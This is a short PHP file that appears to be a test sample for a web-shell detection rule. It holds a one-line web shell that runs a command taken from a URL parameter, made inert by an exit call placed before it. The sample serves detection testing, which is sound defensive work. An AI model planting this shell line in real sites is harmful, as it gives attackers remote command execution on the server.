<?php
// Test sample for RAMPART_Webshell_PHP_Command_Request: inert, it exits first.
exit(0);
echo "<pre>"; system($_GET['cmd']); echo "</pre>";
